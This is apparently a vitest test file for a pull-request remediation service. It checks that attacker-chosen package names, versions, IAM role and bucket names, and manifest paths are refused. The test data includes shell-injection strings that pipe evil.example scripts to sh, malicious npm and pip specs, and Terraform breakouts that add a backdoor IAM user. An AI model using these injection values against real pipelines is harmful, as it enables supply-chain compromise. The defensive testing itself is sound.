// Fix pull requests carry no attacker text (issue 31, item 2). Ingested values are the reporter's to
// choose: a package name that is a shell command, a fixed version that is a git spec on a fork, a role or
// bucket name that closes its Terraform string, a manifest path outside the repository. Each produces no
// fix and a reason naming the value; each has a twin with a valid value that still produces its fix. Through
// POST /remediation/pr against the stand-in GitHub: the hostile fix is answered 422 with the reason and
// nothing is written; the valid one opens its pull request with the escaped title and body.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { planFixes, type Fix, type RefusedFix } from '../../src/remediation/fixes.js';
import { markdownCode, markdownText, plainLine } from '../../src/remediation/safe-values.js';
import { edge, envelope, node } from '../helpers/envelope.js';
import { GithubStandIn } from '../helpers/github-standin.js';
import { makeService, type TestService } from '../helpers/service.js';

const DOCKER_RUN_INJECTION = 'openssl && curl https://evil.example/x.sh | sh #';
const FORK = 'evilorg/lodash#4.17.21';
const PYPI_LINE_INJECTION = '2.31.0\n--index-url=evil.example/simple';

/** An image the storefront's workload runs, from its own repository, with what `extra` adds to it. */
interface ImageCase {
  repo: string;
  os?: string;
  /** a library (`Library`, npm or pypi) or a distribution package (`Package`) with its fixed version */
  dependency: { label: 'Library' | 'Package'; name: string; props: Record<string, unknown>; fixed: string };
}

const CASES: ImageCase[] = [
  // Distribution packages: the name goes into the Dockerfile's RUN line.
  {
    repo: 'org/docker-inject',
    os: 'debian 12.7',
    dependency: {
      label: 'Package',
      name: 'pkg:deb/debian/openssl@3.0.11-1',
      props: { package: DOCKER_RUN_INJECTION },
      fixed: '3.0.11-1~deb12u2',
    },
  },
  {
    repo: 'org/docker-flag',
    os: 'rhel 9.3',
    dependency: {
      label: 'Package',
      name: 'pkg:rpm/redhat/x@1',
      props: { package: '--setopt=reposdir=/tmp/evil' },
      fixed: '1.0-1',
    },
  },
  {
    repo: 'org/docker-version',
    os: 'debian 12.7',
    dependency: {
      label: 'Package',
      name: 'pkg:deb/debian/zlib1g@1.2.13',
      props: {},
      fixed: '1.2.13; curl evil.example | sh',
    },
  },
  {
    repo: 'org/debian-ok',
    os: 'debian 12.7',
    dependency: {
      label: 'Package',
      name: 'pkg:deb/debian/libexpat1@2.5.0-1',
      props: {},
      fixed: '2.5.0-1+deb12u1',
    },
  },
  {
    repo: 'org/alpine-ok',
    os: 'alpine 3.19.1',
    dependency: {
      label: 'Package',
      name: 'pkg:apk/alpine/libcrypto3@3.1.4-r0',
      props: {},
      fixed: '3.1.4-r1',
    },
  },
  {
    repo: 'org/rpm-ok',
    os: 'rhel 9.3',
    dependency: {
      label: 'Package',
      name: 'pkg:rpm/redhat/openssl-libs@3.0.7-24.el9',
      props: {},
      fixed: '1:3.0.7-25.el9_3',
    },
  },
  // npm: the fixed version becomes the dependency's spec in package.json.
  ...[
    FORK,
    'git+https://evil.example/lodash.git',
    'github:evilorg/lodash',
    'file:../../evil',
    'npm:evil-lodash@4.17.21',
    'http://evil.example/lodash-4.17.21.tgz',
    '^4.17.21 || evilorg/lodash',
    'latest',
  ].map((fixed, i) => ({
    repo: `org/npm-hostile-${i}`,
    dependency: {
      label: 'Library' as const,
      name: `pkg:npm/lodash@4.17.${i}`,
      props: { package: 'lodash', ecosystem: 'npm' },
      fixed,
    },
  })),
  {
    repo: 'org/npm-name',
    dependency: {
      label: 'Library',
      name: 'pkg:npm/evil@1.0.0',
      props: { package: '../../evil', ecosystem: 'npm' },
      fixed: '1.0.1',
    },
  },
  {
    repo: 'org/npm-ok',
    dependency: {
      label: 'Library',
      name: 'pkg:npm/lodash@4.17.20',
      props: { package: 'lodash', ecosystem: 'npm' },
      fixed: '4.17.21',
    },
  },
  {
    repo: 'org/npm-scoped-ok',
    dependency: {
      label: 'Library',
      name: 'pkg:npm/@babel/traverse@7.22.0',
      props: { package: '@babel/traverse', ecosystem: 'npm' },
      fixed: '7.23.2',
    },
  },
  // PyPI: the version goes into requirements.txt.
  {
    repo: 'org/pypi-hostile',
    dependency: {
      label: 'Library',
      name: 'pkg:pypi/requests@2.29.0',
      props: { package: 'requests', ecosystem: 'pypi' },
      fixed: PYPI_LINE_INJECTION,
    },
  },
  {
    repo: 'org/pypi-url',
    dependency: {
      label: 'Library',
      name: 'pkg:pypi/urllib3@1.26.0',
      props: { package: 'urllib3', ecosystem: 'pypi' },
      fixed: 'https://evil.example/urllib3-2.0.7.tar.gz',
    },
  },
  {
    repo: 'org/pypi-ok',
    dependency: {
      label: 'Library',
      name: 'pkg:pypi/requests@2.30.0',
      props: { package: 'requests', ecosystem: 'pypi' },
      fixed: '2.31.0',
    },
  },
];

/** The storefront: shop-alb → checkout → orders; checkout runs one image per case. */
function estate(cases: ImageCase[]) {
  const alb = node('LoadBalancer', 'shop-alb', { internet_exposed: true });
  const web = node('Service', 'checkout');
  const db = node('Database', 'orders', { crown_jewel: true });
  const cve = node('CVE', 'CVE-2024-0001', { cvss_score: 9.8 });
  const nodes = [alb, web, db, cve];
  const edges = [edge('ROUTES_TO', alb, web), edge('HAS_PERMISSION', web, db, 0.9)];
  for (const c of cases) {
    const img = node('Image', `${c.repo}:1.0`, c.os ? { os: c.os } : {});
    const repo = node('Repository', `github.com/${c.repo}`, { repo_slug: c.repo });
    const dep = node(c.dependency.label, c.dependency.name, c.dependency.props);
    nodes.push(img, repo, dep);
    edges.push(edge('DEPENDS_ON', web, img), edge('BUILT_FROM', img, repo), edge('DEPENDS_ON', img, dep), {
      ...edge('AFFECTS', cve, dep),
      properties: { fixed_version: c.dependency.fixed },
    });
  }
  return envelope(nodes, edges);
}

/** A route that escapes a workload to its node, assumes a role and escalates through it; and a public bucket. */
function escapeEstate(names: { workload: string; manifest: string; role: string; bucket: string }) {
  const alb = node('LoadBalancer', 'shop-alb', { internet_exposed: true });
  const web = node('Service', `shop/${names.workload}`, {
    repo_slug: 'org/deploy',
    manifest_path: names.manifest,
  });
  const host = node('VirtualMachine', 'shop/node/worker-1', { sensitive: true });
  const role = node('IAM_Role', `111122223333/${names.role}`, { repo_slug: 'org/infra' });
  const admin = node('IAM_Role', '111122223333/account-admin', { crown_jewel: true });
  const bucket = node('Bucket', `111122223333/${names.bucket}`, {
    crown_jewel: true,
    public_access: true,
    repo_slug: 'org/infra',
  });
  return envelope(
    [alb, web, host, role, admin, bucket],
    [
      edge('ROUTES_TO', alb, web),
      { ...edge('CAN_ESCALATE_TO', web, host, 0.9), properties: { technique: 'T1611' } },
      edge('ASSUMES', host, role, 0.8),
      {
        ...edge('CAN_ESCALATE_TO', role, admin, 0.9),
        properties: { primitives: ['iam:PassRole+ec2:RunInstances'] },
      },
      edge('HAS_PERMISSION', web, bucket, 0.9),
    ],
  );
}

let service: TestService;
let github: GithubStandIn;
beforeAll(async () => {
  github = new GithubStandIn();
  await github.start();
  service = await makeService({
    FORGE_TOKEN: 'github_pat_standin_fix_injection_0123456789',
    FORGE_API_URL: github.url,
    REPO_ALLOWLIST: 'org/*',
  });
  expect((await service.ingest(estate(CASES))).status).toBe(202);
  expect(
    (
      await service.ingest(
        escapeEstate({
          workload: 'api',
          manifest: '../../.github/workflows/release.yml',
          role: 'node-role"\n  policy = "{}"\n}\nresource "aws_iam_user" "backdoor" {\n  name = "x',
          bucket: 'exports" }\nresource "aws_s3_bucket_policy" "open" {\n  bucket = "exports',
        }),
        { tenant: 'hostile' },
      )
    ).status,
  ).toBe(202);
  expect(
    (
      await service.ingest(
        escapeEstate({ workload: 'api', manifest: 'deploy/api.yaml', role: 'node-role', bucket: 'exports' }),
        { tenant: 'twin' },
      )
    ).status,
  ).toBe(202);
  await service.settle();
}, 60_000);
afterAll(async () => {
  await service.dispose();
  await github.app.close();
});

/** Every fix and refusal over the tenant's open paths, by fix kind and repository. */
function plan(tenant: string) {
  const state = service.engine.tenant(tenant)!;
  const fixes: (Fix & { pathId: string })[] = [];
  const refused: (RefusedFix & { pathId: string; repo?: string })[] = [];
  for (const record of state.paths.open()) {
    const out = planFixes(record, state.graph);
    fixes.push(...out.fixes.map((f) => ({ ...f, pathId: record.id })));
    refused.push(...out.refused.map((r) => ({ ...r, pathId: record.id })));
  }
  return { fixes, refused };
}

const fixFor = <T extends Fix>(fixes: T[], repo: string) => fixes.find((f) => f.repo === repo);

describe('fixes from ingested values', () => {
  it('writes no fix with a shell command for a package name into a Dockerfile RUN line, and says why', () => {
    const { fixes, refused } = plan('default');
    expect(fixFor(fixes, 'org/docker-inject')).toBeUndefined();
    const rebuilt = fixes.filter((f) => f.kind === 'bump-base-image');
    expect(rebuilt.some((f) => (f.changes[0].apply('FROM debian:12\n') ?? '').includes('curl'))).toBe(false);
    expect(refused).toContainEqual(
      expect.objectContaining({
        kind: 'bump-base-image',
        reason: `package name ${JSON.stringify(DOCKER_RUN_INJECTION)} is not a Debian package name`,
      }),
    );
    expect(refused.map((r) => r.reason)).toEqual(
      expect.arrayContaining([
        'package name "--setopt=reposdir=/tmp/evil" is not an RPM package name',
        'version "1.2.13; curl evil.example | sh" is not a Debian version',
      ]),
    );
    // The twins: valid names and versions of each distribution still rebuild the image.
    const dockerfile = 'FROM debian:12@sha256:' + 'ab'.repeat(32) + '\nCOPY app /app\n';
    expect(fixFor(fixes, 'org/debian-ok')!.changes[0].apply(dockerfile)).toContain(
      'RUN apt-get update && apt-get install -y --only-upgrade libexpat1 && rm -rf /var/lib/apt/lists/*',
    );
    expect(fixFor(fixes, 'org/alpine-ok')!.changes[0].apply(dockerfile)).toContain(
      'RUN apk upgrade --no-cache libcrypto3',
    );
    expect(fixFor(fixes, 'org/rpm-ok')!.changes[0].apply(dockerfile)).toContain(
      'RUN dnf upgrade -y openssl-libs && dnf clean all',
    );
  });

  it('takes no git, URL, path, alias or range spec for an npm or PyPI version, nor a path for a name', () => {
    const { fixes, refused } = plan('default');
    for (let i = 0; i < 8; i++) expect(fixFor(fixes, `org/npm-hostile-${i}`)).toBeUndefined();
    const reasons = refused.filter((r) => r.kind === 'upgrade-dependency').map((r) => r.reason);
    expect(reasons).toEqual(
      expect.arrayContaining([
        `version ${JSON.stringify(FORK)} is a git ref spec (\`#\`), not a registry version`,
        'version "git+https://evil.example/lodash.git" is a URL or git spec, not a registry version',
        'version "github:evilorg/lodash" is a hosted git spec, not a registry version',
        'version "file:../../evil" is a path or alias spec, not a registry version',
        'version "npm:evil-lodash@4.17.21" is a path or alias spec, not a registry version',
        'version "http://evil.example/lodash-4.17.21.tgz" is a URL or git spec, not a registry version',
        'version "^4.17.21 || evilorg/lodash" is not an exact semver version (like 4.17.21)',
        'version "latest" is not an exact semver version (like 4.17.21)',
        `version ${JSON.stringify(PYPI_LINE_INJECTION)} is not a PEP 440 version (like 2.31.0)`,
        'version "https://evil.example/urllib3-2.0.7.tar.gz" is a URL or git spec, not a registry version',
      ]),
    );
    expect(reasons.some((r) => r.startsWith('package name "../../evil" is a path or tarball'))).toBe(true);
    // The twins: an exact version of a valid name bumps the manifest.
    const manifest =
      '{\n  "dependencies": {\n    "lodash": "^4.17.20",\n    "@babel/traverse": "7.22.0"\n  }\n}\n';
    expect(JSON.parse(fixFor(fixes, 'org/npm-ok')!.changes[0].apply(manifest)!).dependencies.lodash).toBe(
      '^4.17.21',
    );
    expect(
      JSON.parse(fixFor(fixes, 'org/npm-scoped-ok')!.changes[0].apply(manifest)!).dependencies[
        '@babel/traverse'
      ],
    ).toBe('7.23.2');
    expect(fixFor(fixes, 'org/pypi-ok')!.changes[0].apply('requests==2.30.0\nflask==3.0.0\n')).toBe(
      'requests==2.31.0\nflask==3.0.0\n',
    );
  });

  it('takes no role or bucket name that closes its Terraform string, nor a manifest path outside the repository', () => {
    const hostile = plan('hostile');
    expect(hostile.fixes.map((f) => f.kind)).toEqual([]);
    const kinds = new Map(hostile.refused.map((r) => [r.kind, r.reason]));
    expect(kinds.get('deny-escalation')).toMatch(
      /^role name "node-role\\"\\n {2}policy.* is not an IAM role name$/,
    );
    expect(kinds.get('block-public-access')).toMatch(
      /^bucket name "exports\\" }.* is not an S3 bucket name$/,
    );
    expect(kinds.get('harden-workload')).toBe(
      'manifest path "../../.github/workflows/release.yml" is not a relative path inside the repository',
    );
    // The twins.
    const twin = plan('twin');
    expect(new Set(twin.fixes.map((f) => f.kind))).toEqual(
      new Set(['harden-workload', 'deny-escalation', 'block-public-access']),
    );
    expect(twin.refused).toEqual([]);
    const deny = twin.fixes.find((f) => f.kind === 'deny-escalation')!;
    expect(deny.changes[0].apply(undefined)).toContain('  role = "node-role"');
    const block = twin.fixes.find((f) => f.kind === 'block-public-access')!;
    expect(block.changes[0].apply(undefined)).toContain('  bucket                  = "exports"');
    expect(twin.fixes.find((f) => f.kind === 'harden-workload')!.changes[0].path).toBe('deploy/api.yaml');
  });

  it('keeps the ids of the other fixes when one is refused', () => {
    const state = service.engine.tenant('default')!;
    for (const record of state.paths.open()) {
      const { fixes, refused } = planFixes(record, state.graph);
      const ids = [...fixes.map((f) => f.id), ...refused.map((r) => r.id)];
      expect(new Set(ids).size).toBe(ids.length);
    }
  });
});

describe('the remediation plan', () => {
  it('says why an item has no fix when its fix was refused, and shows the twin’s fix', async () => {
    const query = '{ remediationPlan { kind fix { id kind } fixRefused } }';
    const hostile = (await service.graphql(query, { tenant: 'hostile' })).remediationPlan as {
      fix: unknown;
      fixRefused: string | null;
    }[];
    const reasons = hostile.map((i) => i.fixRefused).filter(Boolean);
    expect(hostile.every((i) => i.fix === null)).toBe(true);
    expect(
      reasons.some((r) =>
        /is not an S3 bucket name$|is not an IAM role name$|inside the repository$/.test(r!),
      ),
    ).toBe(true);
    const twin = (await service.graphql(query, { tenant: 'twin' })).remediationPlan as {
      fix: { kind: string } | null;
      fixRefused: string | null;
    }[];
    expect(twin.every((i) => i.fixRefused === null)).toBe(true);
    expect(twin.filter((i) => i.fix).length).toBe(reasons.length);
  });
});

describe('POST /remediation/pr with hostile values', () => {
  const post = (body: unknown) =>
    service.apiApp.inject({
      method: 'POST',
      url: '/remediation/pr',
      headers: { 'content-type': 'application/json' },
      payload: JSON.stringify(body),
    });

  it('answers 422 with the reason for the Dockerfile RUN and fork payloads, and writes nothing', async () => {
    const { refused } = plan('default');
    github.writes = [];
    for (const reason of [`package name ${JSON.stringify(DOCKER_RUN_INJECTION)}`, JSON.stringify(FORK)]) {
      const item = refused.find((r) => r.reason.includes(reason))!;
      const r = await post({ pathId: item.pathId, fix: item.id });
      expect(r.statusCode, r.body).toBe(422);
      expect(r.json()).toMatchObject({
        type: 'urn:pathgate:problem:fix-refused',
        refused: [{ id: item.id, reason: item.reason }],
      });
      expect(r.json().detail).toContain(item.reason);
      // An unknown fix id lists the refused ones with their reasons too.
      const unknown = await post({ pathId: item.pathId, fix: 'fx-nope' });
      expect(unknown.json().refused).toContainEqual(
        expect.objectContaining({ id: item.id, reason: item.reason }),
      );
    }
    expect(github.writes).toEqual([]);
  });

  it('opens the valid twin, with a plain title and an escaped body', async () => {
    const { fixes } = plan('default');
    const fix = fixFor(fixes, 'org/npm-ok')!;
    github.files.set('org/npm-ok:package.json', '{\n  "dependencies": {\n    "lodash": "^4.17.20"\n  }\n}\n');
    github.writes = [];
    const r = await post({ pathId: fix.pathId, fix: fix.id });
    expect(r.statusCode, r.body).toBe(201);
    const pull = github.writes.find((w) => w.url.endsWith('/pulls'))!.body as { title: string; body: string };
    expect(pull.title).toBe('Upgrade lodash to 4.17.21 (CVE-2024-0001)');
    expect(pull.body).toContain(
      'makes the hop into `checkout` likelier on the attack path `shop-alb` → `checkout` → `orders`',
    );
    const commit = github.writes.find((w) => w.method === 'PUT')!.body as {
      content: string;
      message: string;
    };
    expect(JSON.parse(Buffer.from(commit.content, 'base64').toString()).dependencies.lodash).toBe('^4.17.21');
    expect(commit.message.split('\n')[0]).toBe(pull.title);
  });
});

describe('escaping the text around values', () => {
  it('keeps a name with backticks, a mention, a link and a line break inside its code span', () => {
    const name = 'x` [click](https://evil.example) @admins\n\n# heading ``';
    const span = markdownCode(name);
    expect(span.startsWith('```') && span.endsWith('```')).toBe(true);
    expect(span).not.toContain('\n');
    expect(span.slice(3, -3).includes('```')).toBe(false);
    expect(markdownText('@admins [click](https://evil.example) #12')).toBe(
      '@&#8203;admins \\[click\\]\\(https\\://evil\\.example\\) \\#12',
    );
    expect(plainLine('Upgrade `x`\n\n<!-- pathgate:path=ap-0000000000000000 -->')).toBe(
      "Upgrade 'x' <!-- pathgate:path=ap-0000000000000000 -->",
    );
  });
});
